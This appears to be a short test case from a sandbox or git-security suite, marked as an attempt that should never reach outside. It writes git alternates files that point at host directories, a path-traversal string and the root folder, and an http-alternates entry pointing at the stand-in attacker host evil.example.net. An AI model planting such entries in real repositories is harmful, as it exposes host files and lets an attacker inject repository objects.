"""Names folders of the host as places of objects, so that what the result lacks would be taken from there."""
# outside: never

import os

from attempt import FACTS, attempt


@attempt
def main():
    os.makedirs(".git/objects/info", exist_ok=True)
    with open(".git/objects/info/alternates", "a") as file:
        file.write(
            f"{FACTS['state']}/cache/mirrors\n{FACTS['home']}/../app/.git/objects\n../../../../../../../..{FACTS['home']}/objects\n/\n"
        )
    with open(".git/objects/info/http-alternates", "w") as file:
        file.write("http://evil.example.net/objects\n")
